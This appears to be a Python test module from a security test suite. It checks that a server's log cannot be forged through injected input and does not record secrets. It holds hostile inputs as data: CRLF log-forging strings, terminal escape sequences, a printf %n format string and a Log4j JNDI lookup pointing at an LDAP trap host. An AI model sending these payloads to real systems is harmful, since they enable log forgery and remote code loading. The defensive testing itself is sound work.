"""S25: what is sent can neither forge a line of a log nor put a secret into one.

Messages to the caller are looked at always; the server's log where ``--log`` names it.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from fanfold.attack.cases import JSON, Case, Judge, Trial, batch, get, needing
from fanfold.attack.judging import all_of, no_control_characters, no_failure, untold

FORGED = "Whoever reads the log sees lines that never happened, or has a terminal obey what was sent."
TOLD = "Whoever can read the log can act as the callers in it."

WORDS = {
    "a line break": "\r\nFORGED 127.0.0.1 GET /admin 200",
    "a bare line feed": "\nFORGED line",
    "an escape sequence": "\x1b[2J\x1b[31mred",
    "a title for the terminal": "\x1b]0;title\x07",
    "a backspace": "abc\x08\x08\x08xyz",
    "NUL": "a\x00b",
    "a right-to-left override": "\u202egnp.exe",
    "a format of printf": "%s%s%s%n",
    "a lookup of Log4j": "${jndi:ldap://@TRAP@/landed/@RUN@}",
}


def _log(trial: Trial) -> str:
    try:
        return Path(trial.site.log).read_bytes().decode("utf-8", "replace")
    except OSError as error:
        return f"the log cannot be read: {error}"


def _not_forged(trial: Trial) -> str:
    if not trial.site.can("log"):
        return ""
    for line in _log(trial).splitlines():
        if line.startswith("FORGED") or "\x1b[2J" in line or "\x1b]0;" in line or "\x08" in line:
            return f"the log holds {line[:80]!r}"
    return ""


def _case(name: str, place: str, action: Any) -> Case:
    judge: Judge = all_of(no_failure, no_control_characters, _not_forged)
    return Case(line="S25", name=f"{name} in {place}", hole=FORGED, judge=judge, send=(batch(action),))


def _no_secret(trial: Trial) -> str:
    told = _log(trial)
    for word in (f"{trial.run}-main", f"canary-{trial.run}"):
        if word in told:
            return f"the log holds {word!r}"
    return ""


CASES = (
    *(_case(name, "a path", get(f"/echo/x{word}")) for name, word in WORDS.items()),
    *(_case(name, "a method", {"method": f"get{word}", "relative_path": "/"}) for name, word in WORDS.items()),
    *(_case(name, "an action's name", get("@READ:0@", id=f"a{word}")) for name, word in WORDS.items()),
    *(_case(name, "a member's name", {**get("@READ:0@"), f"x{word}": 1}) for name, word in WORDS.items()),
    Case(
        line="S25",
        name="an escape sequence in the query of the batch",
        hole=FORGED,
        judge=all_of(no_failure, _not_forged),
        send=(batch(get("@READ:0@"), query="x=%0d%0aFORGED%20x&y=%1b%5b2J"),),
    ),
    Case(
        line="S25",
        name="credentials of a batch that is answered, in the log",
        hole=TOLD,
        judge=_no_secret,
        send=(batch(get("@READ:0@"), headers={**JSON, "Cookie": "session=canary-@RUN@"}),),
        needs=needing("log", "ground"),
    ),
    Case(
        line="S25",
        name="credentials of a batch that is refused, in the log",
        hole=TOLD,
        judge=_no_secret,
        send=(batch(5, {}, get("http://x"), headers={**JSON, "X-Api-Key": "canary-@RUN@"}),),
        needs=needing("log", "ground"),
    ),
    Case(
        line="S25",
        name="credentials of a batch that crashes the application, in the log",
        hole=TOLD,
        judge=_no_secret,
        send=(batch(get("/crash/@RUN@"), headers={**JSON, "Cookie": "session=canary-@RUN@"}),),
        needs=needing("log", "ground"),
    ),
    Case(
        line="S25",
        name="a token in an action's query, in the log",
        hole=TOLD,
        judge=_no_secret,
        send=(batch(get("/echo/@RUN@", data={"access_token": "canary-@RUN@"}), get("/echo/@RUN@?key=canary-@RUN@")),),
        needs=needing("log", "ground"),
    ),
    Case(
        line="S25",
        name="a token in an answer's headers",
        hole=TOLD,
        judge=lambda trial: untold(f"{trial.run}-main")(trial) if trial.reply.status >= 400 else "",
        send=(batch(get("http://@TRAP@")), batch(5)),
    ),
)
